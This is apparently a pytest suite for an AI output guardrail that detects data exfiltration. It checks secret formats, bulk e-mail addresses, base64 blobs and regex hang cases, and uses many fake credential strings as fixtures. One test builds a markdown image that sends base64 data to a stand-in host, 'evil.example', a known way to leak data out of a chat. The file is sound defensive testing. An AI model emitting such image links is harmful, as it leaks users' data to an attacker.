"""Exfiltration detection on outputs: secrets, bulk personal data, abnormal patterns, one risk score."""

from __future__ import annotations

import base64
import random

import pytest

from stockade.guardrails import Action, GuardrailSystem
from stockade.guardrails.checks.config import ContentChecksConfig, ExfiltrationConfig
from stockade.guardrails.checks.exfiltration.check import ExfiltrationCheck
from stockade.guardrails.checks.exfiltration.secrets import SecretScanner

ONLY_EXFIL = {"guardrails": {"checks": {"pii": {"enabled": False}, "classification": {"enabled": False}}}}


def random_bytes(n: int, seed: int) -> bytes:
    """Random-looking bytes, the same on every run, so a failure can be reproduced."""
    return random.Random(seed).randbytes(n)


@pytest.fixture(scope="module")
def check() -> ExfiltrationCheck:
    return ExfiltrationCheck(ExfiltrationConfig())


def test_plain_answer_is_allowed(check: ExfiltrationCheck) -> None:
    result = check.evaluate("The capital of France is Paris. It has about two million inhabitants.")
    assert result.action is Action.ALLOW and result.score == 0.0


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("use AKIAZ3MSJV4WWNKWW5FG for the bucket", "aws_access_key_id"),
        ("token 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 here", "github_token"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1c7+9z5Pad7OejecsQ0bu3aumce\n", "private_key"),
        ("db_password = 'Zx8#kq2!Lm9v'", "credential_in_context"),
        ("postgres://admin:S3cr3tPassw0rd@db.internal:5432/prod", "url_credentials"),
    ],
)
def test_secrets_block_output_and_name_the_rule(check: ExfiltrationCheck, text: str, rule: str) -> None:
    result = check.evaluate(text)
    assert result.action is Action.BLOCK
    assert rule in {f.type for f in result.findings}


def test_disabled_rules_and_allowed_values_are_not_reported() -> None:
    text = "request a1b2c3d4-0e5f-4a6b-9c8d-7e6f5a4b3c2d done; key sk_live_4eC39HqLyjWDarjtT1zdp7dc"
    base = {"use_detect_secrets": False}
    assert {h.rule for h in SecretScanner(**base).scan(text)} == {"uuid", "stripe_key"}
    assert {h.rule for h in SecretScanner(**base, disabled_rules=["uuid"]).scan(text)} == {"stripe_key"}
    allowed = SecretScanner(**base, allow_values=[r"sk_live_4eC39HqLyjWDarjtT1zdp7dc"]).scan(text)
    assert {h.rule for h in allowed} == {"uuid"}
    # a pattern must match the whole value: a prefix alone allows nothing
    assert len(SecretScanner(**base, allow_values=["sk_live_"]).scan(text)) == 2


def test_disabled_rules_reach_the_check_from_config() -> None:
    text = "the job id is a1b2c3d4-0e5f-4a6b-9c8d-7e6f5a4b3c2d"
    assert ExfiltrationCheck(ExfiltrationConfig()).evaluate(text).action is Action.MASK
    quiet = ExfiltrationConfig.model_validate({"secrets": {"disabled_rules": ["uuid"]}})
    assert ExfiltrationCheck(quiet).evaluate(text).action is Action.ALLOW


def test_weak_password_policy_reaches_the_check_from_config() -> None:
    text = 'db:\n  password: "admin2024"\n'
    found = ExfiltrationCheck(ExfiltrationConfig()).evaluate(text)
    assert [f.type for f in found.findings] == ["credential_in_context"]  # on by default
    docs = ExfiltrationConfig.model_validate({"secrets": {"report_weak_passwords": False}})
    assert ExfiltrationCheck(docs).evaluate(text).findings == []


def test_low_entropy_words_in_credential_context_are_not_secrets() -> None:
    hits = SecretScanner(use_detect_secrets=False).scan("set the password = <your password> and token: none")
    assert hits == []


def test_detect_secrets_plugins_add_findings() -> None:
    # A Slack token shape only detect-secrets' plugin knows in this form (our table needs 10+ chars after xox?-).
    text = "slack: xoxb-583920174655-Zq8mKd3RtWp"
    with_plugins = {h.rule for h in SecretScanner(use_detect_secrets=True).scan(text)}
    assert any(r.startswith("detect_secrets:") or r == "slack_token" for r in with_plugins)


def test_bulk_personal_data_masks_then_blocks(check: ExfiltrationCheck) -> None:
    rows = [f"user{i}@example.org, 555-01{i:02d}-{1000 + i}" for i in range(3)]
    few = check.evaluate("\n".join(rows[:1]))
    assert few.action is not Action.BLOCK
    many = check.evaluate("\n".join(f"user{i}@example.org" for i in range(12)))
    assert many.action is Action.BLOCK and {f.type for f in many.findings} == {"EMAIL_ADDRESS"}
    some = check.evaluate("\n".join(f"user{i}@example.org" for i in range(5)))
    assert some.action is Action.MASK


def test_markdown_image_smuggling_data_is_blocked(check: ExfiltrationCheck) -> None:
    payload = base64.urlsafe_b64encode(random_bytes(48, 1)).decode()
    text = f"Here is your summary. ![logo](https://evil.example/p.png?d={payload})"
    result = check.evaluate(text)
    assert result.action is Action.BLOCK
    assert "markdown_image_exfiltration" in {f.type for f in result.findings}


def test_ordinary_links_and_images_pass(check: ExfiltrationCheck) -> None:
    text = "See ![diagram](https://docs.example.com/img/arch.png) and https://example.com/docs?page=2"
    assert check.evaluate(text).action is Action.ALLOW


def test_base64_blob_is_masked_not_blocked(check: ExfiltrationCheck) -> None:
    blob = base64.b64encode(random_bytes(150, 2)).decode()
    result = check.evaluate(f"Output follows: {blob} end")
    assert result.action is Action.MASK
    assert any(f.type == "base64_blob" and f.action is Action.MASK for f in result.findings)


def test_unusually_long_output_warns() -> None:
    cfg = ExfiltrationConfig(patterns={"max_output_chars": 200})  # type: ignore[arg-type]
    result = ExfiltrationCheck(cfg).evaluate("word " * 100)
    assert result.action is Action.WARN
    assert [f.type for f in result.findings] == ["unusually_long_output"]


def test_config_refuses_input_stage() -> None:
    with pytest.raises(ValueError):
        ContentChecksConfig(exfiltration={"stages": ["input", "output"]})  # type: ignore[arg-type]


async def test_wired_into_check_output_only_and_masks_text() -> None:
    system = GuardrailSystem(ONLY_EXFIL)
    blob = base64.b64encode(random_bytes(150, 3)).decode()
    text = f"result {blob} done"
    assert (await system.check_input(text)).action is Action.ALLOW
    verdict = await system.check_output(text)
    assert verdict.action is Action.MASK and verdict.passed
    assert verdict.masked_text == "result <BASE64_BLOB> done"
    blocked = await system.check_output("here: AKIAZ3MSJV4WWNKWW5FG")
    assert blocked.blocked and "exfiltration" in (blocked.error or "")
    assert "AKIAZ3MSJV4WWNKWW5FG" not in blocked.model_dump_json()


@pytest.mark.parametrize(
    "text",
    [
        "CREATE USER app IDENTIFIED BY 'Tq7#pLm2Zx';",
        "mysql -u root --password Sne3sd8AZjq",
        "<password>Hq8!vR2mZp</password>",
        'if (password !== "PaS5w0rD2#") {',
        'curl -u "admin:dG9rZW4gQ2" https://127.0.0.1',
        '$env:P = ConvertTo-SecureString "4yd21JKH~GE8dkd"',
    ],
)
def test_credential_forms_in_code_and_commands(text: str) -> None:
    hits = SecretScanner(use_detect_secrets=False).scan(text)
    assert [h.rule for h in hits] == ["credential_in_context"]


@pytest.mark.parametrize(
    "text",
    [
        "bypass = 'cackle12!'",  # 'pass' inside another word is not a key
        "token: ghp_1111111111111111111111111111111111111",  # a made-up, low-entropy value
        "api_key = 'ABCDEFGHIJKLMNOP12345'",  # a run of sequential characters
        "ALTER USER bob PASSWORD EXPIRE INTERVAL 90 DAY;",  # a keyword, not a value
    ],
)
def test_fake_or_keyword_values_are_not_secrets(text: str) -> None:
    assert SecretScanner(use_detect_secrets=False).scan(text) == []


def _rules(text: str) -> set[str]:
    return {h.rule for h in SecretScanner(use_detect_secrets=False).scan(text)}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("client_token = akab-x7kq2mz9w4tplr8c-n3vb6yh1d5jsf0ga", "akamai_client_token"),
        ("NRBR-9f3a71c0e58d24b6a1c", "newrelic_key"),
        (
            "dnkey-TQ7MZ2KX4PLR9WN3V8CY6HD5JB-FG2QX7NZ8KT4MW6PR3LY9CV5HB2JD7XQ4NZ8TK3MW6PR2LY9CV5HB4",
            "defined_networking_key",
        ),
        (
            "Authorization: NTLM TlRMTVNTUAADAAAAs/7pIy+K8iEfnuSRxbEL7LVWO/web5NCfsvI/ilV5c2ORtyO1LfCdk0qWk12dwb4"
            "XYaQAkrWvaNAG+nI",
            "ntlm_token",
        ),
        ("jira: NDgyOTEwMzc1NTYxOsvMyTX2zR9hImrhUziuGjQATTO6", "atlassian_pat"),
        ("org 00D5e8Kq3Lm7Xw2RtA", "salesforce_org_id"),
        ("heroku key 3f9c2a71-8e4b-4d0a-b6c5-1e7f2d9a0b84", "uuid"),
        ('{"kty": "EC", "crv": "P-256", "d": "q9Zk2Lp0Vb7Xw3rT8mN1cY6hJ4fG5sA"}', "json_web_key"),
        (
            "ewogImtleXMiOiBbCiAgewogICAia3R5IjogIkVDIiwKICAgImNydiI6ICJQLTI1NiIsCiAgICJkIjogInE5WmsyTHAw"
            "VmI3WHczclQ4bU4xY1k2aEo0Zkc1c0EiCiAgfQogXQp9",
            "base64_json_web_key",
        ),
        ("AGE-SECRET-KEY-15FERYXHRDZ9M6Y09MR8WRERWZGJ6F8NTXVHXYRDLM5AAHN0T09NLEAJUME", "age_secret_key"),
        # all zeros looks made up, but the CRC32 checksum proves a real token shape
        ("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", "github_token"),
    ],
)
def test_known_formats_are_found(text: str, rule: str) -> None:
    assert rule in _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "AGE-SECRET-KEY-15FERYXHRDZ9M6Y09MR8WRERWZGJ6F8NTXVHXYRDLM5AAHN0T09NLEAJUMX",  # bech32 checksum fails
        "host akab-x7kq2mz9w4tplr8c-n3vb6yh1d5jsf0ga.luna.akamaiapis.net",  # a host name, not a token
        'href="login?region=EUROPEASIAAUSTRALIAAMERICA"',  # ASIA + letters: a word run, not an AWS key id
        "id 3F9c2a71-8E4b-4d0A-b6c5-1e7f2d9a0b84",  # mixed-case UUID: hand-edited, not generated
        "Authorization: NTLM TlRMTVNTUAADAAAAGAAYAFYAAAAYABgAbgAAAAAAThisIsAnExampleAAAAAAAAAAAAAAAAAA",
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,7F3A\n\nMIIEpAIBAAKCAQEA",
        '<img src="data:image/png;base64,iVBORw0KGgo/EAACRvAWiwzR8rcXFsLiUH13ybj0tdEaNOOyOCeLq9/AAAA">',
    ],
)
def test_structurally_invalid_or_harmless_values_are_not_secrets(text: str) -> None:
    assert _rules(text) == set()


def test_sealed_secret_ciphertext_is_not_a_credential() -> None:
    # Bitnami sealed-secrets: 2-byte length 0x0200 then the RSA-wrapped session key: encrypted, safe to show
    cipher = base64.b64encode(b"\x02\x00" + random_bytes(552, 4)).decode()
    assert _rules(f"    PASSWORD: {cipher}") == set()
    plain = base64.b64encode(
        b"\x7f" + random_bytes(299, 5)
    ).decode()  # a long random value under a key is one
    assert _rules(f"    PASSWORD: {plain}") == {"credential_in_context"}


def test_a_long_random_value_holding_a_short_run_among_every_other_character_is_a_credential() -> None:
    # Random characters with a, b, c, d, e at every other position in the middle: a 5-long woven run that a
    # 400-character random value holds about once in 1,000 by chance; hand-typed runs are longer for its length.
    chars = list(base64.b64encode(random_bytes(300, 6)).decode())
    chars[200:210:2] = "abcde"
    value = "".join(chars)
    assert _rules(f"    PASSWORD: {value}") == {"credential_in_context"}
    assert _rules("    PASSWORD: 9f8e7d6c5b4a39281706f5e4d3c2b1a0") == set()  # short and typed by hand


@pytest.mark.parametrize(
    "text",
    [
        'if SECRET_KEY := getenv("APP_SECRET_KEY", "Vq8#Lm2pZx9!Tr4w"):',
        'PASSWORD = os.environ.get("DB_PASSWORD") or "at5G6zi!m"',
        "define( 'DB_PASSWORD' , '2Arh5dA1Sn0ywiVYdnpwr3aLzZDJ' );",
        "CREATE ROLE app_admin WITH LOGIN PASSWORD Xq7pLm2Zw9;",
        "ALTER USER 'app'@'%' IDENTIFIED WITH 'mysql_native_password' AS '*6C8989366EAF75BB670AD8EA7A7FC1176A95CE'",
        "api_key = '''KJHfdjs8767gr54534wsFHGf5hJK'''",
        "passwords: Prl23Db#@x",
        "authorization = 'Hq7mZ2xW9pL4vR8tY1nB3cK6'",  # 'authoriz...' is an auth key, unlike 'author'
        "https://h.example.net/cb?ts%3D1395782596%26token%3Dh1d3Me4ch534d801sl3jdk%26v%3D3",
    ],
)
def test_credential_forms_in_defaults_setters_and_sql(text: str) -> None:
    assert _rules(text) == {"credential_in_context"}


@pytest.mark.parametrize(
    "text",
    [
        "password:\n            Zx8#kq2!Lm9v",  # a value on the next line is not the key's value
        "apiVersion: bitnami.com/v1alpha1",  # 'api' in a longer camelCase word is not a credential key
        "PWR_MGM: N0tThePSw45f!!!",  # PW inside an upper-case word is not a key
        'author_info = "Mq$Bn0Tf0YHDk7Zx"',  # 'author' is not 'auth'
        '"key":"f45VgF8jX79o@anydata.com"',  # an e-mail address, not a key
        "wiki/page.action?spaceKey=LOGIC&title=QUANTUM",  # the value ends at the next query parameter
    ],
)
def test_context_does_not_reach_past_the_value(text: str) -> None:
    assert _rules(text) == set()


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("otpauth seed: JBSWY3DPEHPK3PXP", "otp_secret"),
        ("backup code base KZ7Q4MNW2XRT5BPL6YCD3VHJ4EUS7GAF", "otp_secret"),
        ("bucket: https://acme-prod-exports.s3.amazonaws.com/dump.csv", "aws_s3_bucket"),
        ("db: https://acme-prod-7f3c.firebaseio.com/users.json", "firebase_domain"),
    ],
)
def test_seeds_and_storage_endpoints_are_found(text: str, rule: str) -> None:
    assert rule in _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "status: ACCESSDENIEDERROR",  # upper-case letters only: a word, not a base32 seed
        "code HTTPSCONNECTION2POOL",  # a single digit in an identifier
    ],
)
def test_upper_case_words_are_not_otp_seeds(text: str) -> None:
    assert "otp_secret" not in _rules(text)


def test_aws_secret_key_found_next_to_a_key_id_only() -> None:
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYz9Qk3vTq2L"
    assert "aws_secret_access_key" in _rules(f"id=AKIAZ3MSJV4WWNKWW5FG\nsecret={secret}")
    assert "aws_secret_access_key" not in _rules(f"checksum {secret}")


def test_google_client_secret_found_next_to_its_client_id() -> None:
    client = "417302958816-k3v9q2m7x1b8n4c6z0w5r2t8y7u3p1aa.apps.googleusercontent.com"
    assert "google_oauth_client_secret" in _rules(
        f'client_id: "{client}"\nclient_secret: "Rt5vK9qZ2mXw8LpN3bYc7HdF"'
    )
    assert "google_oauth_client_secret" not in _rules('build_tag: "Rt5vK9qZ2mXw8LpN3bYc7HdF"')


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("sq0idp-Kq7mZ2xW9pL4vR8tY1nB3c", "square_token"),
        ("GR1348941Zq8mKd3RtWp5Lx2NvB7c", "gitlab_runner_token"),
        ("eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.Zm9vYmFyYmF6cXV4cXV1eA", "jose_token"),
    ],
)
def test_vendor_formats_from_public_rule_sets(text: str, rule: str) -> None:
    assert rule in _rules(text)


def test_jose_token_needs_a_jose_header() -> None:
    # eyJ + base64 of JSON without alg/enc: not a token header
    assert "jose_token" not in _rules("eyJuYW1lIjoiYm9iIiwiYWdlIjo0Mn0.Zm9vYmFyYmF6cXV4")


@pytest.mark.timeout(30)  # a hang guard, not a speed figure: each text takes a second or two
@pytest.mark.parametrize(
    "text",
    ["a." * 100_000, "1." * 100_000, "![" * 200_000, "![x](http://a " * 7_000],
    ids=["dotted-words", "dotted-digits", "open-images", "unclosed-images"],
)
def test_long_repetitive_output_is_judged_in_one_pass(check: ExfiltrationCheck, text: str) -> None:
    # the address and markdown-image patterns bound their parts, so these take a linear scan (the address pattern
    # took about 5 s on 40 kB of "a.a.a..." and 80 s on these 200 kB while its local part was unbounded)
    result = check.evaluate(text)
    assert result.error is None and not any(f.type == "EMAIL_ADDRESS" for f in result.findings)
